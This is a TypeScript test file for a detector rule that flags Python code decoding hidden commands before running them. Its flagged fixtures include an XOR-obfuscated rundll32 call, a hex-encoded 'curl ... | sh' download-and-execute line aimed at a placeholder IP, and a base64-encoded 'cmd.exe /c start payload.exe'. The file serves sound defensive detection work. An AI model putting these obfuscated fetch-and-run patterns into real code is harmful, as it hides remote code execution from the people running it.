import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-encoded-command.js';

/** Python bytes-literal escapes of `s` XORed with one byte. */
const xorLit = (s: string, key: number) => [...Buffer.from(s)].map((b) => `\\x${(b ^ key).toString(16).padStart(2, '0')}`).join('');
const hex = (s: string) => Buffer.from(s).toString('hex');

ruleTest(rule, {
  clean: [
    {
      name: 'password decoded from the environment passed to a tool',
      file: 'backup.py',
      code: `import base64, os, subprocess\ndef dump():\n    pw = base64.b64decode(os.environ["DB_PW"]).decode()\n    subprocess.run(["mysqldump", "-u", "root", "-p" + pw, "shop"], check=True)\n`,
    },
    {
      name: 'PowerShell script encoded (b64encode) for -EncodedCommand',
      file: 'win.py',
      code: `import base64, subprocess\ndef ps(script):\n    enc = base64.b64encode(script.encode("utf-16le")).decode()\n    return subprocess.run(["powershell", "-NoProfile", "-EncodedCommand", enc], capture_output=True)\n`,
    },
    {
      name: 'image decoded from base64 to a temp file, then a literal tool runs on it',
      file: 'thumb.py',
      code: `import base64, subprocess, tempfile\nICON = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="\ndef thumb():\n    path = tempfile.mktemp(suffix=".png")\n    with open(path, "wb") as f:\n        f.write(base64.b64decode(ICON))\n    subprocess.run(["convert", path, "-resize", "16x16", path])\n`,
    },
    {
      name: 'git command built from readable parts, output decoded',
      file: 'ver.py',
      code: `import subprocess\ndef version():\n    cmd = ["git", "describe", "--tags"]\n    out = subprocess.check_output(cmd).decode().strip()\n    return out\n`,
    },
    {
      name: 'hex of a readable hash passed to a tool (no decoder on the way)',
      file: 'sign.py',
      code: `import hashlib, subprocess\nDIGEST = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\ndef verify(path):\n    subprocess.run(["sha256sum", "-c", DIGEST + "  " + path])\n`,
    },
  ],
  flagged: [
    {
      name: 'program name XORed with a key passed in (decoded by trying one-byte keys)',
      file: 'pkg/__init__.py',
      code: `import os, subprocess\ndef load(path, key):\n    command = b'${xorLit('rundll32', 0x5a)}'\n    name = bytes([b ^ key for b in command]).decode('utf-8')\n    line = f'{name} "{path}", Start'\n    subprocess.run(line, shell=True)\n`,
      findings: [{ line: 6, decoded: /^rundll32 \(XOR key 0x5a\)/, confidence: 'high', severity: 'critical' }],
    },
    {
      name: 'command kept as hex and decoded before os.system',
      file: 'run.py',
      code: `import os, binascii\nC = "${hex('curl -s http://203.0.113.9/x | sh')}"\ncmd = binascii.unhexlify(C).decode()\nos.system(cmd)\n`,
      findings: [{ line: 4, decoded: 'curl -s http://203.0.113.9/x | sh', message: /unhexlify/ }],
    },
    {
      name: 'base64 argument list, key not recoverable: medium',
      file: 'x.py',
      code: `import base64, subprocess\nB = "Y21kLmV4ZSAvYyBzdGFydCBwYXlsb2FkLmV4ZQ=="\ndef go(extra):\n    parts = base64.b64decode(B + extra).decode().split()\n    subprocess.Popen(parts)\n`,
      findings: [{ line: 5, confidence: 'medium' }],
    },
  ],
});
